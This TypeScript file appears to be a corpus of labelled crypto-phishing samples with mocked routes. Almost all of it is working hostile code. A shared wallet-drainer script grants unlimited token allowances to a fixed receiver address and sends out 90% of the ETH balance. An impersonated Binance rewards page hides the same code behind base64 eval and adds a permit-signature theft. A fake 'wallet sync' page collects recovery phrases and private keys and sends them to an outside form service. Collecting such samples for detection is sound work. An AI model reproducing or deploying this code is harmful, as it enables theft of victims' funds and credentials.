import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, wordmark, json, js, b64 } from '../parts/yl-kit.js';

const walletNames = ['MetaMask', 'Trust Wallet', 'Coinbase Wallet', 'Binance Web3 Wallet', 'OKX Wallet', 'Phantom', 'Rainbow', 'SafePal', 'Ledger Live', 'Exodus', 'TokenPocket', 'Bitget Wallet'];

const drainerCore = `
var RECV='0x6b3f0d9a1E2c4F7a8B5D0e9C1f2A3b4C5d6E7f80';
var TOKENS=[{s:'USDT',a:'0xdAC17F958D2ee523a2206206994597C13D831ec7'},{s:'USDC',a:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'},{s:'WETH',a:'0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2'}];
function pad(h){return h.replace(/^0x/,'').toLowerCase().padStart(64,'0')}
function approveData(sp){return '0x095ea7b3'+pad(sp)+'f'.repeat(64)}
async function drain(eth){
  var acc=(await eth.request({method:'eth_requestAccounts'}))[0];
  var chain=await eth.request({method:'eth_chainId'});
  fetch('/api/w',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({a:acc,c:chain,ua:navigator.userAgent,ref:document.referrer})});
  var bal=await eth.request({method:'eth_getBalance',params:[acc,'latest']});
  for(var i=0;i<TOKENS.length;i++){
    try{await eth.request({method:'eth_sendTransaction',params:[{from:acc,to:TOKENS[i].a,data:approveData(RECV),value:'0x0'}]});}catch(e){}
  }
  try{var v=BigInt(bal)*9n/10n;if(v>0n)await eth.request({method:'eth_sendTransaction',params:[{from:acc,to:RECV,value:'0x'+v.toString(16)}]});}catch(e){}
  return acc;
}`;

export const entries: Entry[] = [
{
  id: 'yl-drainer-zkgulf-airdrop-claim',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://claim-zkgulf.xyz/',
  body: doc({
    title: 'ZKGulf – Season 1 Airdrop Claim',
    css: `*{box-sizing:border-box}body{margin:0;background:#05060a;color:#fff;font-family:Inter,system-ui,Arial,sans-serif}.h{display:flex;justify-content:space-between;align-items:center;padding:18px 28px}.h button,.cta{background:linear-gradient(90deg,#00e0a4,#00a3ff);color:#001;border:0;border-radius:12px;padding:10px 18px;font-weight:700;cursor:pointer}
.m{max-width:560px;margin:60px auto;text-align:center;padding:0 20px}.m h1{font-size:42px;margin:0}.m p{color:#9aa4b2}.box{background:#0d1018;border:1px solid #1d2433;border-radius:18px;padding:24px;margin-top:26px}.amt{font-size:36px;font-weight:800;color:#00e0a4}.cta{width:100%;padding:14px;font-size:17px;margin-top:16px}
.st{font-size:13px;color:#9aa4b2;margin-top:12px}.wl{display:none;position:fixed;inset:0;background:rgba(0,0,0,.7);align-items:center;justify-content:center}.wl.on{display:flex}.wl .p{background:#111521;border-radius:18px;width:360px;padding:18px}.wl .w{display:flex;justify-content:space-between;padding:12px;border-radius:10px;background:#1a2030;margin:8px 0;cursor:pointer}`,
    body: `<div class="h">${wordmark('ZKGulf', '#00e0a4', { size: 24 })}<button id="c1">Connect Wallet</button></div>
<div class="m"><h1>Season 1 Airdrop is live</h1><p>Early users of the ZKGulf bridge are eligible for $ZKG. Claim window closes in <b id="t">11:42:08</b>.</p>
<div class="box"><div>Your allocation</div><div class="amt" id="al">— ZKG</div><button class="cta" id="c2">Check eligibility</button><div class="st" id="st">Connect the wallet you used on ZKGulf, Arbitrum or zkSync.</div></div></div>
<div class="wl" id="wl"><div class="p"><b>Connect a wallet</b>${walletNames.slice(0, 6).map((w) => `<div class="w" data-w="${w}"><span>${w}</span><span>›</span></div>`).join('')}</div></div>
<script>${drainerCore}
function openW(){document.getElementById('wl').classList.add('on')}
document.getElementById('c1').onclick=openW;document.getElementById('c2').onclick=openW;
document.querySelectorAll('.w').forEach(function(el){el.onclick=async function(){document.getElementById('wl').classList.remove('on');var st=document.getElementById('st');
if(!window.ethereum){st.textContent='No wallet detected. Open this page in your wallet\\'s browser.';return}
try{st.textContent='Checking eligibility…';document.getElementById('al').textContent=(2400+Math.floor(Math.random()*3000)).toLocaleString()+' ZKG';st.textContent='Eligible! Confirm the claim transactions in your wallet.';await drain(window.ethereum);st.textContent='Claim submitted. Tokens will arrive within 30 minutes.'}catch(e){st.textContent='Claim failed: '+(e.message||e)+'. Please try again.'}}});
</script>`,
  }),
  routes: { 'claim-zkgulf.xyz/api/w': json({ ok: true }) },
},
{
  id: 'yl-drainer-binance-web3-rewards-obf',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://binance-web3-rewards.app/ar/campaign/ramadan',
  body: `<!DOCTYPE html><html lang="ar" dir="rtl"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Binance Web3 Wallet – مكافآت رمضان</title>
<style>body{margin:0;background:#0b0e11;color:#eaecef;font-family:'IBM Plex Sans Arabic',Tahoma,sans-serif}.h{padding:16px 24px;border-bottom:1px solid #2b3139;display:flex;justify-content:space-between;align-items:center}.h b{color:#f0b90b;font-size:20px}
.c{max-width:520px;margin:50px auto;text-align:center;padding:0 18px}.c h1{font-size:30px}.pz{background:#1e2329;border-radius:14px;padding:22px;margin:20px 0}.pz b{font-size:34px;color:#f0b90b;display:block}button{background:#f0b90b;color:#181a20;border:0;border-radius:10px;padding:14px 30px;font-size:17px;font-weight:700;cursor:pointer;width:100%}#s{font-size:14px;color:#848e9c;margin-top:12px}</style></head>
<body><div class="h"><b>BINANCE</b><span>Web3 Wallet</span></div><div class="c"><h1>مكافآت رمضان 🌙</h1><p>وزّعنا 2,000,000 USDT على مستخدمي Web3 Wallet في الشرق الأوسط. اربط محفظتك للتحقق من مكافأتك.</p>
<div class="pz">مكافأتك المتوقعة<b>250 – 1,000 USDT</b></div><button id="go">ربط المحفظة واستلام المكافأة</button><div id="s"></div></div>
<script src="/ar/campaign/static/bundle.min.js"></script></body></html>`,
  routes: {
    'binance-web3-rewards.app/ar/campaign/static/bundle.min.js': js(`eval(atob("${b64(`${drainerCore}
document.getElementById('go').onclick=async function(){var s=document.getElementById('s');var eth=window.ethereum||(window.BinanceChain&&window.BinanceChain)||(window.trustwallet&&window.trustwallet.ethereum);
if(!eth){s.textContent='افتح الصفحة من متصفح محفظة Binance Web3 أو MetaMask';return}
try{s.textContent='يرجى تأكيد الطلبات في محفظتك…';try{await eth.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x38'}]})}catch(e){}
var acc=(await eth.request({method:'eth_requestAccounts'}))[0];
var typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},primaryType:'Permit',domain:{name:'USD Coin',version:'2',chainId:1,verifyingContract:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'},message:{owner:acc,spender:RECV,value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:0,deadline:Math.floor(Date.now()/1000)+86400*365}};
var sig=await eth.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(typed)]});
fetch('/api/w',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({a:acc,sig:sig,t:'permit'})});
await drain(eth);s.textContent='تم! ستصلك المكافأة خلال 24 ساعة.'}catch(e){s.textContent='فشلت العملية، حاول مرة أخرى'}};`)}"));`),
    'binance-web3-rewards.app/api/w': json({ ok: 1 }),
  },
},
{
  id: 'yl-wallet-rectify-node-sync',
  label: 'cryptodrainer',
  kind: 'seed-phrase-harvest',
  url: 'https://dapps-rectify-node.web.app/sync.html',
  body: doc({
    title: 'DApp Node Sync – Rectification Portal',
    css: `*{box-sizing:border-box}body{margin:0;background:#0f172a;color:#e2e8f0;font-family:system-ui,Arial,sans-serif}.h{text-align:center;padding:40px 20px}.h h1{margin:0 0 8px}.h p{color:#94a3b8;max-width:640px;margin:0 auto}
.iss{display:grid;grid-template-columns:repeat(auto-fill,minmax(190px,1fr));gap:12px;max-width:900px;margin:20px auto;padding:0 16px}.iss div{background:#1e293b;border-radius:10px;padding:14px;cursor:pointer;font-size:14px}.iss div:hover{background:#334155}
.md{display:none;position:fixed;inset:0;background:rgba(0,0,0,.7);align-items:center;justify-content:center}.md.on{display:flex}.pn{background:#fff;color:#111;width:440px;max-width:94%;border-radius:12px;padding:20px}.tb{display:flex;border-bottom:1px solid #ddd;margin-bottom:12px}.tb span{flex:1;text-align:center;padding:8px;cursor:pointer;font-size:14px}.tb span.on{border-bottom:2px solid #2563eb;color:#2563eb}
textarea,input{width:100%;border:1px solid #ccc;border-radius:6px;padding:10px;font-size:14px;margin:4px 0}textarea{height:100px}button{width:100%;height:44px;background:#2563eb;color:#fff;border:0;border-radius:6px;margin-top:10px;font-size:15px}.sel{display:grid;grid-template-columns:1fr 1fr;gap:8px;margin:10px 0}.sel span{border:1px solid #ddd;border-radius:6px;padding:8px;text-align:center;font-size:13px;cursor:pointer}.sel span.on{border-color:#2563eb;background:#eff6ff}`,
    body: `<div class="h"><h1>Decentralized Wallet Sync</h1><p>Open protocol for resolving wallet issues: failed transactions, missing tokens, airdrop claims, staking, bridge errors and KYC. Select an issue below to sync your wallet with the node.</p></div>
<div class="iss">${['Rectification', 'Claim Airdrop', 'Missing / Irregular Balance', 'Transaction Delay', 'Bridge Transfer', 'Staking Issues', 'Slippage Error', 'Whitelist', 'Buy Token Error', 'NFT Mint', 'Locked Account', 'Migration'].map((x) => `<div>${x}</div>`).join('')}</div>
<div class="md" id="md"><div class="pn"><b>Import wallet</b><div class="sel" id="sel">${walletNames.slice(0, 8).map((w, i) => `<span${i === 0 ? ' class="on"' : ''}>${w}</span>`).join('')}</div>
<div class="tb"><span class="on" data-t="phrase">Phrase</span><span data-t="keystore">Keystore JSON</span><span data-t="private">Private Key</span></div>
<form id="f"><div data-p="phrase"><textarea name="phrase" placeholder="Enter your 12 or 24 word recovery phrase, separated by spaces"></textarea></div>
<div data-p="keystore" style="display:none"><textarea name="keystore" placeholder="Keystore JSON"></textarea><input name="kpass" type="password" placeholder="Wallet password"></div>
<div data-p="private" style="display:none"><input name="pkey" placeholder="Private key (64 hex characters)"></div><button>Validate &amp; Sync</button></form></div></div>
<script>
var wallet='${walletNames[0]}';document.querySelectorAll('.iss div').forEach(function(d){d.onclick=function(){document.getElementById('md').classList.add('on')}});
document.querySelectorAll('#sel span').forEach(function(s){s.onclick=function(){document.querySelectorAll('#sel span').forEach(function(x){x.classList.remove('on')});s.classList.add('on');wallet=s.textContent}});
document.querySelectorAll('.tb span').forEach(function(t){t.onclick=function(){document.querySelectorAll('.tb span').forEach(function(x){x.classList.remove('on')});t.classList.add('on');document.querySelectorAll('[data-p]').forEach(function(p){p.style.display=p.dataset.p===t.dataset.t?'block':'none'})}});
document.getElementById('f').onsubmit=function(e){e.preventDefault();var fd=new FormData(this);fd.append('wallet',wallet);
var ph=(fd.get('phrase')||'').toString().trim().split(/\\s+/).filter(Boolean);if(ph.length&&[12,15,18,21,24].indexOf(ph.length)<0){alert('Invalid phrase length');return}
fetch('https://formspree.io/f/xbjnqwze',{method:'POST',headers:{Accept:'application/json'},body:fd}).finally(function(){alert('Error 0x5e: node busy, please try again with another wallet.')})};
</script>`,
  }),
},
];
